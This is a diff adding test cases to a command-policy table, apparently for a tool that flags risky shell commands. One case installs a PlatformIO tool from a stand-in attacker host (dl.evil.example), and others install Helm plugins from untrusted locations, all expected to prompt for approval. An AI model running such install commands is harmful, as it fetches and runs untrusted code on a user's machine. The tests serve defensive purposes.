@@ -59,6 +59,16 @@ policyTable('secret-file-read', [
 ]);
 
 policyTable('package-from-untrusted-source', [
+  {
+    note: 'a PlatformIO tool installed from a web address',
+    spec: 'pio pkg install -g --tool https://dl.evil.example/pio/tool.zip',
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: a PlatformIO tool from its registry',
+    spec: 'pio pkg install -g --tool platformio/tool-esptoolpy@^1.40801.0',
+    expect: null,
+  },
   { note: 'a Helm plugin from a temporary folder', spec: 'helm plugin install /tmp/helm-diff-fast', expect: 'ask' },
   {
     note: "a Helm plugin from a stranger's repository",
